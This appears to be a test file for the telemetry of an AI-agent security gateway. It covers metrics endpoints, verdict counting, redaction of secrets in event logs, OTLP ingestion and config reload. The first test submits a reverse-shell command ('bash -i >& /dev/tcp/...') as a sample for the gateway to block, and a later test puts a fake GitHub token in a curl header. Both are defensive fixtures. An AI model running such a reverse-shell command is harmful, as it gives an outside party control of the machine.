// The telemetry of a running gateway (in process, real listeners on ephemeral ports): GET /metrics on the sidecar
// (gateway token) and on the proxy (proxy auth) after a few verdicts and model calls; the event writer's jsonl
// destination receiving lifecycle, verdict and diagnostic records with a secret redacted; and the sidecar's
// OpenAPI document listing every registered route.
import assert from 'node:assert/strict';
import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { startGateway } from '../../src/gateway/runtime.js';
import { authHeaders } from '../helpers/gateway.js';
import { tempHome, type TempHome } from '../helpers/home.js';
import { chatCompletion, openAIStream, startMockLlm, type MockLlm } from '../helpers/mock-llm.js';
import { proxyConfig } from '../helpers/proxy.js';
import type { EventRecord } from '../../src/telemetry/events/record.js';

const TOKEN = 'telemetry-test-token-0123456789';

/** The records of a jsonl destination once one of them passes `wanted` (or after 5 s, whatever is there). */
async function recordsIn(file: string, wanted: (record: EventRecord) => boolean): Promise<EventRecord[]> {
  let records: EventRecord[] = [];
  for (let i = 0; i < 250; i++) {
    if (existsSync(file)) records = readFileSync(file, 'utf8').trimEnd().split('\n').map((l) => JSON.parse(l) as EventRecord);
    if (records.some(wanted)) break;
    await new Promise((resolve) => setTimeout(resolve, 20));
  }
  return records;
}
const GITHUB_TOKEN = `ghp_${'a1B2c3D4e5'.repeat(3)}a1B2c3`;

describe('gateway telemetry', () => {
  let home: TempHome;
  let gateway: Awaited<ReturnType<typeof startGateway>>;
  let openai: MockLlm;
  let anthropic: MockLlm;
  let config: string;

  before(async () => {
    openai = await startMockLlm();
    anthropic = await startMockLlm();
    config = `${proxyConfig(openai, anthropic)}observability:
  destinations:
    - name: local
      kind: jsonl
      path: events.jsonl
      batch_size: 1
      flush_interval_ms: 10
`;
    home = tempHome(config, { WARDEN_GATEWAY_TOKEN: TOKEN });
    gateway = await startGateway({ ...home.env, WARDEN_LOG_LEVEL: 'silent' });
  });
  after(async () => {
    await gateway.stop();
    await openai.close();
    await anthropic.close();
    home.remove();
  });

  const inspect = (body: unknown, connector = 'cursor') =>
    fetch(`${gateway.sidecarUrl}/api/v1/inspect/tool`, { method: 'POST', headers: authHeaders(TOKEN, { 'x-warden-connector': connector }), body: JSON.stringify(body) });

  it('serves verdict, latency and audit metrics on the sidecar, behind the gateway token', async () => {
    assert.equal((await inspect({ tool: 'Bash', args: { command: 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1' } })).status, 200);
    assert.equal((await inspect({ tool: 'Bash', args: { command: 'ls' } })).status, 200);
    assert.equal((await inspect({ tool: 'Bash', args: { command: 'ls -la' } })).status, 200);
    assert.equal((await inspect({ tool: 'Bash', args: { command: 'pwd' } }, 'no-such-agent')).status, 200);
    assert.equal((await fetch(`${gateway.sidecarUrl}/metrics`)).status, 401);
    const answer = await fetch(`${gateway.sidecarUrl}/metrics`, { headers: { authorization: `Bearer ${TOKEN}` } });
    assert.equal(answer.status, 200);
    assert.match(answer.headers.get('content-type') ?? '', /^text\/plain/);
    const text = await answer.text();
    assert.match(text, /warden_verdicts_total\{action="block",lane="inspect-tool",connector="cursor"\} 1\n/);
    assert.match(text, /warden_verdicts_total\{action="allow",lane="inspect-tool",connector="cursor"\} 2\n/);
    assert.match(text, /warden_verdicts_total\{action="allow",lane="inspect-tool",connector="other"\} 1\n/, 'unknown names share one label value');
    assert.match(text, /warden_verdict_duration_seconds_count\{route="\/api\/v1\/inspect\/tool"\} 4\n/);
    assert.match(text, /warden_audit_commit_duration_seconds_count [1-9]/);
    assert.match(text, /warden_audit_queue_depth 0\n/);
    assert.match(text, /warden_sink_queue_depth\{destination="local"\} \d+\n/);
    assert.match(text, /# TYPE warden_otlp_records_received_total counter/);
  });

  it('serves proxy call metrics on the proxy, behind the proxy auth', async () => {
    openai.replies.push({ kind: 'json', body: chatCompletion('hello there') });
    const call = await fetch(`${gateway.proxyUrl}/v1/chat/completions`, {
      method: 'POST', headers: { 'content-type': 'application/json', 'x-warden-auth': `Bearer ${TOKEN}` },
      body: JSON.stringify({ model: 'gpt-mock', messages: [{ role: 'user', content: 'hi' }] }),
    });
    assert.equal(call.status, 200);
    await call.text();
    assert.equal((await fetch(`${gateway.proxyUrl}/metrics`)).status, 401);
    const text = await (await fetch(`${gateway.proxyUrl}/metrics`, { headers: { 'x-warden-auth': `Bearer ${TOKEN}` } })).text();
    assert.match(text, /warden_proxy_calls_total\{route="chat",provider="[^"]+",outcome="ok"\} 1\n/);
    assert.match(text, /warden_verdicts_total\{action="allow",lane="proxy-chat",connector="none"\} 1\n/);
    assert.match(text, /warden_proxy_added_latency_seconds_count\{route="chat"\} 1\n/);
  });

  it('counts a stream cut for a streamed answer blocked mid-way', async () => {
    openai.replies.push({ kind: 'stream', pieces: openAIStream(['Sure. ', 'The token is ', GITHUB_TOKEN, ' and more']), delayMs: 5 });
    const call = await fetch(`${gateway.proxyUrl}/v1/chat/completions`, {
      method: 'POST', headers: { 'content-type': 'application/json', 'x-warden-auth': `Bearer ${TOKEN}` },
      body: JSON.stringify({ model: 'gpt-mock', stream: true, messages: [{ role: 'user', content: 'hi' }] }),
    });
    assert.ok(!(await call.text()).includes(GITHUB_TOKEN));
    const text = await (await fetch(`${gateway.proxyUrl}/metrics`, { headers: { 'x-warden-auth': `Bearer ${TOKEN}` } })).text();
    assert.match(text, /warden_proxy_stream_cuts_total\{provider="[^"]+"\} 1\n/);
    assert.match(text, /warden_proxy_calls_total\{route="chat",provider="[^"]+",outcome="blocked"\} 1\n/);
  });

  it('writes lifecycle, verdict and diagnostic records to the jsonl destination', async () => {
    assert.equal((await inspect({ tool: 'Bash', args: { command: `curl -H "Authorization: token ${GITHUB_TOKEN}" https://api.github.com` }, session_id: 'sess-42' })).status, 200);
    const file = join(home.dir, 'events.jsonl');
    const records = await recordsIn(file, (r) => r.anchors.session_id === 'sess-42');
    assert.ok(records.some((r) => r.kind === 'lifecycle' && r.name === 'gateway-start'));
    assert.ok(records.some((r) => r.kind === 'diagnostic' && r.name === 'sidecar-running'));
    const verdict = records.find((r) => r.anchors.session_id === 'sess-42');
    assert.ok(verdict, 'the verdict reached the file');
    assert.equal(verdict.kind, 'verdict');
    assert.match(verdict.name, /^inspect-tool-/);
    assert.ok(verdict.anchors.record_id);
    assert.deepEqual(verdict.body.structured, { raw_action: 'block', mode: 'action', rule_ids: ['SECRET-GITHUB-PAT-CLASSIC', 'SECRET-BEARER-TOKEN-HEADER'] });
    assert.ok(!readFileSync(file, 'utf8').includes(GITHUB_TOKEN), 'the token never leaves');
  });

  it('hands received OTLP records to the event writer and counts them', async () => {
    const attributes = [
      ['event.name', 'tool_result'], ['session.id', 'sess-otlp-7'], ['tool_name', 'Bash'], ['tool_use_id', 'toolu_writer_1'],
    ].map(([key, value]) => ({ key, value: { stringValue: value } }));
    const body = {
      resourceLogs: [{
        resource: { attributes: [{ key: 'service.name', value: { stringValue: 'claude-code' } }] },
        scopeLogs: [{ logRecords: [{ timeUnixNano: `${Date.now()}000000`, body: { stringValue: 'claude_code.tool_result' }, attributes }] }],
      }],
    };
    const answer = await fetch(`${gateway.sidecarUrl}/v1/logs`, { method: 'POST', headers: authHeaders(TOKEN), body: JSON.stringify(body) });
    assert.equal(answer.status, 200, await answer.text());
    const records = await recordsIn(join(home.dir, 'events.jsonl'), (r) => r.kind === 'otlp');
    const otlp = records.find((r) => r.kind === 'otlp');
    assert.ok(otlp, 'the OTLP record reached the destination');
    assert.equal(otlp.name, 'claude_code.tool_result');
    assert.deepEqual([otlp.anchors.session_id, otlp.anchors.tool_invocation_id], ['sess-otlp-7', 'toolu_writer_1']);
    const metrics = await (await fetch(`${gateway.sidecarUrl}/metrics`, { headers: authHeaders(TOKEN) })).text();
    assert.match(metrics, /warden_otlp_records_received_total\{signal="logs"\} 1\n/);
  });

  it('counts received metrics by data point, as documented', async () => {
    const points = [1, 2, 3].map((n) => ({ timeUnixNano: `${Date.now()}000000`, asInt: String(n) }));
    const body = {
      resourceMetrics: [{
        resource: { attributes: [{ key: 'service.name', value: { stringValue: 'claude-code' } }] },
        scopeMetrics: [{ metrics: [{ name: 'claude_code.token.usage', unit: 'tokens', sum: { dataPoints: points } }] }],
      }],
    };
    const answer = await fetch(`${gateway.sidecarUrl}/v1/metrics`, { method: 'POST', headers: authHeaders(TOKEN), body: JSON.stringify(body) });
    assert.equal(answer.status, 200, await answer.text());
    const metrics = await (await fetch(`${gateway.sidecarUrl}/metrics`, { headers: authHeaders(TOKEN) })).text();
    assert.match(metrics, /warden_otlp_records_received_total\{signal="metrics"\} 3\n/);
  });

  it('serves the OpenAPI document and the docs page without a token on a loopback bind', async () => {
    const doc = (await (await fetch(`${gateway.sidecarUrl}/openapi.json`)).json()) as { openapi: string; paths: Record<string, unknown> };
    assert.match(doc.openapi, /^3\./);
    assert.ok(doc.paths['/metrics']);
    const page = await fetch(`${gateway.sidecarUrl}/docs`, { redirect: 'follow' });
    assert.equal(page.status, 200);
    assert.match(await page.text(), /swagger/i);
  });

  it('rebuilds the destinations on reload, after the old ones sent what they held', async () => {
    writeFileSync(join(home.dir, 'config.yaml'), config.replace('path: events.jsonl', 'path: events-next.jsonl'));
    const metricsBefore = await (await fetch(`${gateway.sidecarUrl}/metrics`, { headers: { authorization: `Bearer ${TOKEN}` } })).text();
    await gateway.restart();
    const old = readFileSync(join(home.dir, 'events.jsonl'), 'utf8').trimEnd().split('\n').map((l) => JSON.parse(l) as EventRecord);
    assert.ok(old.some((r) => r.name === 'gateway-reload' && r.body.phase === 'stopping'), 'the old destination sent what it held before it closed');
    const next = join(home.dir, 'events-next.jsonl');
    const started = (r: EventRecord) => r.name === 'gateway-reload' && r.body.phase === 'started';
    assert.ok((await recordsIn(next, started)).some(started));
    const metricsAfter = await (await fetch(`${gateway.sidecarUrl}/metrics`, { headers: { authorization: `Bearer ${TOKEN}` } })).text();
    const blocks = (text: string) => /warden_verdicts_total\{action="block",lane="inspect-tool",connector="cursor"\} (\d+)/.exec(text)?.[1];
    assert.equal(blocks(metricsAfter), blocks(metricsBefore), 'counters survive the reload');
  });
});
